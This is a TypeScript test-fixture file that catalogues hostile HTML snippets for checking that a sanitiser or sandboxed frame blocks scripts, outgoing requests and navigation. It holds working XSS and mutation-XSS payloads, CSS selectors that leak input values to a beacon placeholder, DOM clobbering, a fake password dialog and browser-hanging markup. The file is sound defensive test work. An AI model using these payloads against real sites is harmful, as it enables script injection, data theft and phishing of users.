/** A page that tries to get out. `__BEACON__` stands for an address whose requests a listener counts. */
export interface Hostile {
  readonly name: string;
  readonly html: string;
  /**
   * Why it does nothing by itself where nothing stops it; null for a page that does: control.spec.ts shows it without our server and fails
   * where neither a script runs, nor a request goes out, nor anything is navigated.
   */
  readonly quiet: string | null;
}

/** Leaves a trace wherever it runs. */
const RUN = "try{top.__winnowRan=1;top.document.title='ran'}catch(e){};try{parent.__winnowRan=1}catch(e){};fetch('__BEACON__/run')";
const TRACE = RUN.replaceAll('"', "&quot;");

const REWRITTEN = "harms only where a sanitiser writes it out differently from how it read it";
const TAMED = "Chromium itself has stopped it, other browsers or later ones may not";
const DISPLAY = "aims at what the app shows and asks, not at scripts";
const HEAVY = "would hang the browser where nothing stops it";

const table: readonly (readonly [name: string, html: string, quiet?: string])[] = [
  // Scripts
  ["inline script", `<script>${RUN}</script>`],
  ["module script", `<script type=module>${RUN}</script>`],
  ["script from the network", "<script src=__BEACON__/a.js></script>"],
  ["script from a data address", `<script src="data:text/javascript,${TRACE}"></script>`],
  ["script in SVG", `<svg><script>${RUN}</script></svg>`],
  ["script by reference in SVG", '<svg><script href="__BEACON__/b.js"></script><script xlink:href="__BEACON__/c.js"></script></svg>'],
  ["script after an early end of a comment", `<!--><script>${RUN}</script>-->`],
  ["script after an early end of a title", `<title></title><script>${RUN}</script></title>`],
  ["script after an early end of a textarea", `<textarea></textarea><script>${RUN}</script></textarea>`],
  ["script after an early end of a style sheet", `<style></style><script>${RUN}</script></style>`],
  ["style text inside SVG that reads as markup", `<svg><style><img src=x onerror="${TRACE}"></style></svg>`],
  ["markup hidden in MathML", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${TRACE}&gt;"></table></mtext></math>`, REWRITTEN],
  ["markup hidden in nested forms", `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${TRACE}"></style></form>`, REWRITTEN],
  ["markup hidden in noscript", `<noscript><p title="</noscript><img src=x onerror=${TRACE}>"></noscript>`],
  ["markup hidden in xmp", `<xmp><p title="</xmp><script>${RUN}</script>"></xmp>`],
  ["markup hidden in noembed and noframes", `<noembed></noembed><script>${RUN}</script><noframes></noframes><script>${RUN}</script>`],
  ["markup after plaintext", `<p>a<plaintext><script>${RUN}</script>`, REWRITTEN],
  ["markup hidden in a template", `<template><script>${RUN}</script><img src=x onerror="${TRACE}"></template>`, REWRITTEN],
  ["template with a shadow root", `<div><template shadowrootmode=open><script>${RUN}</script><img src=__BEACON__/shadow.png></template></div>`],
  ["select that swallows markup", `<select><template><script>${RUN}</script></template><option><style><a title="</style><img src=x onerror=${TRACE}>"></select>`],
  // Handlers
  ["onerror of a picture", `<img src=x onerror="${TRACE}">`],
  ["onload of the body", `<body onload="${TRACE}" onpageshow="${TRACE}" onfocus="${TRACE}">x`],
  ["onload of SVG", `<svg onload="${TRACE}"><animate onbegin="${TRACE}" attributeName=x dur=1s></svg>`],
  ["handler with odd spelling", `<img src=x OnErRoR="${TRACE}"><img/src=x/onerror="${TRACE}"><img src=x onerror\n=\n"${TRACE}">`],
  ["focus handlers with autofocus", `<input autofocus onfocus="${TRACE}"><a tabindex=1 autofocus onfocus="${TRACE}">a</a>`],
  ["details that opens", `<details open ontoggle="${TRACE}"><summary>s</summary>d</details>`],
  ["media events", `<video onloadstart="${TRACE}" onerror="${TRACE}"><source src=x onerror="${TRACE}"></video><audio src=x onerror="${TRACE}"></audio>`],
  ["marquee events", `<marquee onstart="${TRACE}" onfinish="${TRACE}" loop=1>m</marquee>`, TAMED],
  ["animation events", `<style>@keyframes k{from{left:0}}p{animation:k 1ms}</style><p onanimationstart="${TRACE}" onanimationend="${TRACE}">p`],
  ["pointer and key handlers on the root", `<html onclick="${TRACE}" onmousemove="${TRACE}" onkeydown="${TRACE}" onscroll="${TRACE}"><p>p`],
  // Addresses that run
  ["link with javascript", `<a href="javascript:${TRACE}">click</a>`],
  ["link with an entity and a tab in javascript", `<a href="java&Tab;script&colon;${TRACE}">click</a>`],
  ["form with javascript", `<form action="javascript:${TRACE}"><button formaction="javascript:${TRACE}">go</button><input type=image formaction="javascript:${TRACE}"></form>`],
  ["frame with javascript", `<iframe src="javascript:${TRACE}"></iframe>`],
  ["frame with a document in an attribute", `<iframe srcdoc="<script>${TRACE}</script><img src=__BEACON__/srcdoc.png>"></iframe>`],
  ["frame with a data document", `<iframe src="data:text/html,<script>${TRACE}</script>"></iframe>`],
  ["object and embed", `<object data="data:text/html,<script>${TRACE}</script>"></object><embed src="__BEACON__/e.swf"><applet code=__BEACON__/a></applet>`],
  ["frameset", `<title>t</title><frameset onload="${TRACE}" cols=50%,50%><frame src="__BEACON__/frame"><frame src="javascript:${TRACE}"><noframes>__TEXT__</noframes></frameset>`],
  ["SVG link animated to javascript", `<svg><a><animate attributeName=href values="javascript:${TRACE}" /><text y=20>t</text></a></svg>`, TAMED],
  ["SVG set on a reference", `<svg><use id=u><set attributeName=href to="data:image/svg+xml,<svg id='x' onload='${TRACE}'/>#x" /></use></svg>`, TAMED],
  ["MathML link", `<math href="javascript:${TRACE}"><mi>x</mi></math>`, TAMED],
  // Requests
  ["pictures in every spelling", "<img src=__BEACON__/1.png><img srcset='__BEACON__/2.png 1x, __BEACON__/3.png 2x'><picture><source srcset=__BEACON__/4.png><img></picture><input type=image src=__BEACON__/5.png><image src=__BEACON__/6.png>"],
  ["lazy pictures", "<img loading=lazy src=__BEACON__/l.png><img data-src=__BEACON__/m.png lowsrc=__BEACON__/n.png dynsrc=__BEACON__/o.png>"],
  ["backgrounds as attributes", "<body background=__BEACON__/bg.png><table background=__BEACON__/t.png><tr><td background=__BEACON__/td.png>x</table>"],
  ["media and tracks", "<video src=__BEACON__/v.mp4 poster=__BEACON__/p.png autoplay><track src=__BEACON__/t.vtt default></video><audio src=__BEACON__/a.mp3 autoplay></audio>"],
  ["links of every kind", "<link rel=stylesheet href=__BEACON__/s.css><link rel=preload as=image href=__BEACON__/p.png><link rel=prefetch href=__BEACON__/q><link rel=icon href=__BEACON__/i.ico><link rel=modulepreload href=__BEACON__/m.js><link rel=manifest href=__BEACON__/w.json><link rel=preconnect href=__BEACON__><link rel=dns-prefetch href=__BEACON__>"],
  ["style sheet with imports", "<style>@import '__BEACON__/i.css';@import url(__BEACON__/j.css) screen;p{color:red}</style><p>p"],
  ["pictures in style", "<style>p{background:url(__BEACON__/a.png);list-style-image:url('__BEACON__/b.png');border-image:url(__BEACON__/c.png) 1;mask:url(__BEACON__/m.svg#x);cursor:url(__BEACON__/k.cur),auto;content:url(__BEACON__/n.png);filter:url(__BEACON__/f.svg#f)}</style><p>p"],
  ["pictures in style by image-set and cross-fade", "<p style=\"background:image-set('__BEACON__/s.png' 1x);background-image:-webkit-image-set(url(__BEACON__/w.png) 1x);mask-image:cross-fade(url(__BEACON__/x.png),red)\">p"],
  ["pictures in style with escapes", "<p style=\"background:u\\72l(__BEACON__/e.png);background-image:\\75\\72\\6c('__BEACON__/f.png')\">p<p style='background:url(&quot;__BEACON__/g.png&quot;)'>q"],
  ["pictures in variables", "<style>:root{--a:url(__BEACON__/v.png)}p{background:var(--a)}@property --b{syntax:'<url>';inherits:true;initial-value:url(__BEACON__/r.png)}</style><p>p"],
  ["fonts", "<style>@font-face{font-family:f;src:url(__BEACON__/f.woff2)}p{font-family:f}</style><p>text in the font"],
  ["style broken on purpose", "<style>p{color:red;}}}} p{} p{background:url(__BEACON__/m.png)}@media screen{{p{x:y}}/*<style>*/p{list-style-image:url(__BEACON__/y.png)</style><p>p"],
  ["style in a comment of old browsers", "<style><!-- p{background:url(__BEACON__/o.png)} --></style><p>p"],
  ["attribute selectors that send what they see", "<style>input[value^=a]{background:url(__BEACON__/a)}html:has(iframe){background:url(__BEACON__/h)}</style><input value=abc>"],
  ["SVG pictures and filters", "<svg><image href=__BEACON__/1.svg width=9 height=9 /><image xlink:href=__BEACON__/2.svg /><use href=__BEACON__/3.svg#x /><feImage href=__BEACON__/4.svg /><rect fill='url(__BEACON__/5.svg#g)' style='filter:url(__BEACON__/6.svg#f)' width=9 height=9 /></svg>"],
  ["SVG style and foreign content", "<svg><style>@import url(__BEACON__/s.css);rect{fill:url(__BEACON__/p.svg#x)}</style><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=__BEACON__/fo.png></body></foreignObject></svg>"],
  ["speculation and reports", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"__BEACON__/spec\"]}]}</script><meta http-equiv=Content-Security-Policy content=\"default-src *; report-uri __BEACON__/csp\"><a ping=__BEACON__/ping href=#x>a</a>"],
  ["a billion copies in SVG", `<svg><defs><g id=a0><rect width=1 height=1 /></g>${Array.from({ length: 20 }, (_, i) => `<g id=a${i + 1}>${`<use href=#a${i} />`.repeat(10)}</g>`).join("")}</defs><use href=#a20 /></svg><p>after`, HEAVY],
  // Navigation
  ["meta refresh", "<meta http-equiv=refresh content='0;url=__BEACON__/refresh'>"],
  ["meta refresh with javascript", `<meta http-equiv=refresh content="0;url=javascript:${TRACE}">`, TAMED],
  ["base that moves every link to the top", "<base href=__BEACON__/ target=_top><a href=x>click</a><form action=y><button>go</button></form>"],
  ["links out of the frame", "<a href=__BEACON__/top target=_top>top</a><a href=__BEACON__/blank target=_blank>blank</a><a href=__BEACON__/self>self</a><a href=__BEACON__/d download>download</a><area href=__BEACON__/area>"],
  ["form that sends itself", `<form id=f action=__BEACON__/form target=_top><input name=a value=b><button autofocus>go</button></form><script>f.submit()</script>`],
  ["link that covers the page", "<a href=/ target=_top style='position:fixed;inset:0;z-index:2147483647;background:#fff8'>everything</a>"],
  // The parent
  ["names that clobber the document", "<img name=getElementById><form name=body><input name=parentNode><input id=attributes></form><img id=documentElement name=documentElement><form id=createTreeWalker name=createRange></form><embed name=contentDocument>", DISPLAY],
  ["forms that clobber their own methods", "<form id=f><input id=getAttribute name=getAttribute><input name=nodeName><input name=textContent><p>text in the form</form>", DISPLAY],
  ["ids of the app", "<div id=__next data-n=1 data-testid=paper class=work><p data-n=2>fake numbers</p></div>", DISPLAY],
  ["dialog on top of everything", "<dialog open style='position:fixed;inset:0;width:100vw;height:100vh;z-index:99999999'>Log in again <input type=password autofocus></dialog><div popover=manual>pop</div>", DISPLAY],
  ["text that asks the parent", "<p>{{constructor.constructor('top.__winnowRan=1')()}} ${top.__winnowRan=1} <%= 1 %></p><title><img src=x onerror=top.__winnowRan=1></title>", DISPLAY],
  ["a page as tall as it can be", "<div style='height:10000000px'>tall</div><div style='height:100vh;width:100vw'>window</div>", DISPLAY],
  ["motion without end", "<style>@keyframes s{to{transform:rotate(1turn)}}*{animation:s .1s infinite;transition:all 9s}</style><marquee>m</marquee><blink>b</blink><p>p", DISPLAY],
  ["nesting without end", `${"<div>".repeat(20_000)}deep`, HEAVY],
  ["NUL bytes and strange tags", `a\0b<scr\0ipt>${RUN}</scr\0ipt><img src=x on\0error="${TRACE}"><p onclick\0="${TRACE}">c`],
  ["attribute without an end", `<p title="never closed><script>${RUN}</script>`, REWRITTEN],
  ["UTF-7 and other disguises", `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-<p>text`, TAMED],
];

const TEXT = "<p>Text of the page.</p>";

/** All fixtures, each with a line of text so that the page is one that can be stored: first in the page, or where it says. */
export const HOSTILE: readonly Hostile[] = table.map(([name, html, quiet = null]) => ({ name, html: html.includes("__TEXT__") ? html.replace("__TEXT__", TEXT) : TEXT + html, quiet }));

/** The markup of a fixture with the address of the listener in its place. */
export function armed({ html }: Hostile, beacon: string): string {
  return html.replaceAll("__BEACON__", beacon);
}
